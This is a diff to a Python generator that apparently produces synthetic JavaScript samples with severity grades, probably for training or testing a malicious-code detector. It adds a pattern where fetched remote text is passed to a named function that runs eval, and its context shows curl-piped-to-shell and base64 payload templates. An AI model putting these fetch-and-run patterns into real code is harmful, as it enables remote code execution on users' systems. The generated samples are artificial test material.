@@ -599,7 +599,7 @@ def _js_exfiltration(b: Build) -> Severity:
 
 
 def _js_remote_code(b: Build) -> Severity:
-    how = b.pick(["fetched", "fetched", "decode", "shell"])
+    how = b.pick(["fetched", "fetched", "decode", "shell", "callback"])
     b.steps.append(how)
     if how == "decode":
         decoded = b.pick([f'Buffer.from("{PAYLOAD}", "base64").toString()', f'atob("{PAYLOAD}")'])
@@ -607,6 +607,13 @@ def _js_remote_code(b: Build) -> Severity:
         return Severity.CRITICAL
     origin = b.pick(sorted(ORIGINS))
     url = _js_url(b, origin)
+    if how == "callback":  # the fetched text is handed to a function of the file by name
+        name = b.fresh("handle")
+        b.lines.append(f"function {name}(code) {{\n  "
+                       + b.fork("RUN", "eval(code);", "console.log(JSON.parse(code));") + "\n}")
+        b.lines.append(b.pick([f"fetch({url}).then((r) => r.text()).then({name});",
+                               f"axios.get({url}).then((r) => r.data).then({name});"]))
+        return ORIGINS[origin]
     if how == "shell":
         b.lines.append(b.fork("RUN", f'execSync("curl -fsSL " + {url} + " | sh");',
                               f'execSync("curl -fsSL " + {url} + " | jq .");'))
